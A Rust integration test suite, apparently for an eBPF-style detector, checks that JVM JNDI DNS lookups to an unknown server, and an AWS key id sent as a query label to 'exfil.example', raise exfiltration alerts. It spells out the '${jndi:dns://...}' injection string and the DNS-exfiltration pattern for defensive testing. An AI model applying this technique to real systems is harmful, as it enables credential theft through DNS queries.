//! DNS as the exfiltration channel: `${jndi:dns://server/name}` sends a query straight to the
//! attacker's name server, and a secret expanded into a query name leaks through any resolver.
//!
//! A JVM looks up `dns://127.0.0.1:5353/NAME`; a UDP server there answers NXDOMAIN, so each
//! lookup is exactly one query. Proves, in monitor mode:
//! - to a server that is neither in `/etc/resolv.conf` nor `dns.resolvers`, even an innocent
//!   name (`pwned.example.com`) is one `jvm_dns_exfil` alert (high, reported) naming the JVM,
//!   with `network` {udp, 127.0.0.1, 5353, dns, recognised by payload} and `dns_name`;
//! - with `127.0.0.1` made a trusted resolver, the innocent name raises nothing while
//!   `AKIAIOSFODNN7EXAMPLE.exfil.example` (an AWS access key id as a label) is one
//!   `jvm_dns_exfil` alert whose `dns_name` and summary carry the name.
//!
//! In both, the server received the queries (the detector only reports here). No events were
//! lost.

use integration_tests::{
    alert::{self, Network},
    assert_nothing_lost_with_egress, require_kernel_support, Detector, JavaProgram, Mode, Policy,
    ProgramRun, TestCgroup, UdpReply, UdpServer, LOOPBACK_V4, SERVER_TIMEOUT,
};
use serde_json::Value;

const INNOCENT: &str = "pwned.example.com";
const SECRET_LABEL: &str = "AKIAIOSFODNN7EXAMPLE";

fn dns_lookup(cgroup: &TestCgroup, server: &UdpServer, name: &str) -> ProgramRun {
    let run = JavaProgram::new("JndiLookup")
        .arg(format!("dns://127.0.0.1:5353/{name}"))
        .run_in_cgroup(cgroup);
    run.assert_success();
    // The NXDOMAIN answer ends the lookup: proof that the query went out and came back.
    assert!(
        run.value("lookup-error")
            .is_some_and(|e| e.starts_with("javax.naming.NameNotFoundException")),
        "the lookup of {name} did not get the server's NXDOMAIN answer:\n{run}"
    );
    let (_, received) = server.wait_for(|t| t.datagrams >= 1, SERVER_TIMEOUT);
    assert!(
        received && server.dns_names().iter().any(|n| n == name),
        "{server:?} received no query for {name}:\n{run}"
    );
    run
}

fn assert_dns_alert(found: &Value, run: &ProgramRun, name: &str) {
    alert::assert_egress_alert(found, alert::DNS_EXFIL, Mode::Monitor.egress_action());
    alert::assert_egress_from_jvm(found, run, "JndiLookup");
    alert::assert_network(
        found,
        &Network {
            transport: "udp",
            dst_ip: "127.0.0.1",
            dst_port: 5353,
            protocol: Some("dns"),
            recognised_by: Some("payload"),
        },
    );
    assert_eq!(
        alert::dns_name(found),
        Some(name.to_ascii_lowercase()),
        "`network.dns_name` is not {name:?}:\n{}",
        alert::pretty(found)
    );
}

#[test]
fn jndi_dns_lookup_to_an_unknown_server_is_exfil() {
    if !require_kernel_support() {
        return;
    }
    let cgroup = TestCgroup::new("egress-dns-server");
    let server = UdpServer::start(LOOPBACK_V4, 5353, UdpReply::DnsNxDomain);
    let mut detector = Detector::with_policy(&Policy::new(Mode::Monitor), &cgroup);

    let run = dns_lookup(&cgroup, &server, INNOCENT);

    let found =
        alert::expect_only_alert(&detector, alert::rule_from(alert::DNS_EXFIL, run.jvm_pid()));
    assert_dns_alert(&found, &run, INNOCENT);

    assert_nothing_lost_with_egress(&detector.stop());
}

#[test]
fn secret_in_a_query_name_is_exfil_even_to_a_trusted_resolver() {
    if !require_kernel_support() {
        return;
    }
    let cgroup = TestCgroup::new("egress-dns-secret");
    let server = UdpServer::start(LOOPBACK_V4, 5353, UdpReply::DnsNxDomain);
    let policy = Policy::new(Mode::Monitor).dns_resolvers(&["127.0.0.1"]);
    let mut detector = Detector::with_policy(&policy, &cgroup);

    // The control: an ordinary name to a resolver the policy trusts.
    let innocent = dns_lookup(&cgroup, &server, INNOCENT);
    let secret_name = format!("{SECRET_LABEL}.exfil.example");
    let run = dns_lookup(&cgroup, &server, &secret_name);

    let found =
        alert::expect_only_alert(&detector, alert::rule_from(alert::DNS_EXFIL, run.jvm_pid()));
    assert_dns_alert(&found, &run, &secret_name);
    let summary = found
        .get("summary")
        .and_then(Value::as_str)
        .unwrap_or_default();
    assert!(
        summary
            .to_ascii_lowercase()
            .contains(&SECRET_LABEL.to_ascii_lowercase()),
        "the summary does not mention the name:\n{}\n(control lookup: {innocent})",
        alert::pretty(&found)
    );

    assert_nothing_lost_with_egress(&detector.stop());
}
